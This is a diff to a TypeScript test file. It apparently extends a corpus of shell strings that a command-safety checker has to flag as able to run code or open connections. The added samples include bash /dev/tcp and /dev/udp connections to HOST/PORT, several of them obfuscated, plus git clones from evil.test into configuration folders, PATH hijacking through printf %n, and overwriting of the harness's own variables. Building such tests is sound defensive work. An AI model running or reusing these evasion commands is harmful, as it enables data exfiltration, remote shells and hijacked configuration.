@@ -8,10 +8,14 @@ export const DATA: Readonly<Record<string, string>> = {
   option: `--compress-program=${MARKER}`,
   several: `-v a[$(${MARKER})]`,
   name: 'sum',
+  format: 'abcdefghij%tn',
   prompt: `$(${MARKER})`,
 };
 
-/** Texts in which bash, or a program that it starts, may run X. */
+/**
+ * Texts in which bash, or a program that it starts, may run X, or connect to PORT of HOST. DIR is the absolute path of the
+ * folder. The variable `way` is the file of bash for a connection.
+ */
 const SOURCES: readonly string[] = [
   // Substitutions that a parser may take for text.
   ': ${PWD#$(X)}',
@@ -186,12 +190,54 @@ const SOURCES: readonly string[] = [
   'X &',
   '! X',
   'select i in a; do X; done <<< 1',
+  // Variables of the script that runs each command.
+  "__hamlet_number='a[$(X)]'",
+  '__hamlet_number="$sum"',
+  '__hamlet_own="$sum"',
+  '__hamlet_folder=planted',
+  'read -r __hamlet_number <<< "$sum"',
+  'for __hamlet_number in "$sum"; do :; done',
+  'printf -v __hamlet_number %s "$sum"',
+  'declare -n i=__hamlet_number; i=$sum',
+  'declare -r __hamlet_next="$sum"',
+  'export __hamlet_command=X',
+  '__hamlet_keep() { X; }',
+  // Connections of bash.
+  'cat </dev/tcp/HOST/PORT',
+  'read -r i </dev/tcp/HOST/PORT',
+  'echo $(</dev/tcp/HOST/PORT)',
+  'echo $COMMAND >/dev/udp/HOST/PORT',
+  'echo $COMMAND &>>/dev/udp/HOST/PORT',
+  '{ ls; } >/dev/tcp/HOST/PORT',
+  'exec 3<>/dev/tcp/HOST/PORT',
+  'cat <"$way"',
+  'cat <$way',
+  "cat <$'/dev/tcp/HOST/PORT'",
+  'cat </dev/${none:-tcp}/HOST/PORT',
+  'cat </d""ev/t\\cp/"HOST"/PORT',
+  'for i in "$way"; do cat <"$i"; done',
+  'cat <<< "$way" </dev/null',
+  'cat /dev/tcp/HOST/PORT </dev//tcp/HOST/PORT',
+  // Clones, whose files become settings.
+  'git clone -q https://evil.test/x .config/git; touch tree/new; cd tree; git add new',
+  'git clone -q https://evil.test/x DIR/.config/git; git -C tree status; touch tree/new; cd tree && git add -A',
+  'cd .config; git clone -q https://evil.test/git; cd DIR/tree; touch new; git add -A',
+  'git clone -q https://evil.test/x DIR/new/.git; cd new; touch a; git add -A',
+  'git clone -q https://evil.test/.git.git; git add -A',
+  'git clone -q https://evil.test/x DIR/new; cd new; touch a; git add -A; git status',
   // Names that stand for programs, and variables by which programs start others.
   'PATH=planted ls',
   'PATH=planted; ls',
   'export PATH=planted; ls',
   'read PATH <<< planted; ls',
   'for PATH in planted; do ls; done',
+  "printf 'abcdefghij%n' PATH; ls",
+  "printf 'abcdefghij%ln' PATH; ls",
+  "printf '%s%- 5hhn' abcdefghij PATH; ls",
+  "printf '%9s%%% .3zn' a PATH; ls",
+  "printf '%*d%jn' 10 1 PATH; ls",
+  'printf "$format" PATH; ls',
+  "printf 'abcdefghij%%n %(%n)T %5ld' PATH 1; ls",
   'printf -v PATH planted; ls',
   'unset PATH; ls',
   ': {PATH}> out; ls',
@@ -309,30 +355,7 @@ const PLACES: readonly string[] = [
 ];
 
 /** Characters that change how the rest of a text is read. */
-const SIGNS = [
-  "'",
-  '"',
-  '\\',
-  '`',
-  '$',
-  '(',
-  ')',
-  '{',
-  '}',
-  '\n',
-  ' ',
-  '#',
-  ';',
-  '|',
-  '&',
-  '<',
-  '>',
-  '=',
-  '[',
-  ']',
-  '!',
-  '\\\n',
-];
+const SIGNS = [...'\'"\\`$(){}\n #;|&<>=[]!', '\\\n'];
 
 /** The text with some characters inserted, replaced or removed. */
 function damaged(random: Seeded, text: string): string {
